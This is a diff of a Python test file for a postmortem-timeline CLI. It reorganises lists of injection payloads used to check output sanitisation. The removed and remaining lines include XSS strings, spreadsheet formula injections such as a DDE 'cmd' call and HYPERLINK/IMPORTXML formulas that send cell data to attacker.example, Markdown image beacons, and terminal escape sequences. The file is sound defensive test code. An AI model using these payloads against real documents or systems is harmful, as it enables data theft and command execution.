@@ -25,6 +25,7 @@ from typing import Any
 import pandas as pd
 import pytest
 from click.testing import CliRunner, Result
+from incident_sample import CSV_PAYLOADS, HTML_PAYLOADS, MARKDOWN_PAYLOADS
 from markdown_it import MarkdownIt
 
 from pmtimeline.cli import cli
@@ -36,34 +37,8 @@ JWT = (
     "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ"
     ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
 )
-#: §3.1-3.4: chart, Markdown, CSV and terminal payloads.
-PAYLOADS = (
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="https://evil.example/">click</a>',
-    "<img src=x onerror=alert(1)>",
-    "</script><script>alert(1)</script>",
-    "$\\href{javascript:alert(1)}{m}$",
-    '<span style="font-size:300px;fill:red">BIG</span>',
-    "%{x}%{y:$.2f}",
-    "\u202egnp.exe",
-    "@everyone",
-    "<img src=https://attacker.example/x.png>",
-    "![](https://attacker.example/b?c=1)",
-    "```\n## Fake section",
-    "a|b|c",
-    "<!--",
-    "<details open><summary>x</summary>",
-    "[x](javascript:alert(1))",
-    "#1",
-    "\n# Root cause: the intern",
-    '=HYPERLINK("https://attacker.example/?d="&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3",
-    "\t=1+1",
-    "\r=1+1",
-    '=IMPORTXML(CONCAT("https://attacker.example/?",A1),"//a")',
+#: §3.4: terminal payloads.
+TERMINAL_PAYLOADS = (
     "\x1b[2J\x1b[H",
     "\x1b]0;title\x07",
     "\x1b]8;;https://evil.example\x1b\\text\x1b]8;;\x1b\\",
@@ -72,6 +47,13 @@ PAYLOADS = (
     "OK\rFAIL",
     "back\x08\x08space",
     "\x9b31m csi",
+)
+#: §3.1-3.4: chart, Markdown, CSV and terminal payloads (the 100 000-character one stays in the chart tests).
+PAYLOADS = (
+    *(p for p in HTML_PAYLOADS if len(p) < 1000),
+    *MARKDOWN_PAYLOADS,
+    *CSV_PAYLOADS,
+    *TERMINAL_PAYLOADS,
 )
 #: §4.2 secrets corpus, with the raw values that must never appear in any output.
 SECRET_TEXTS = (
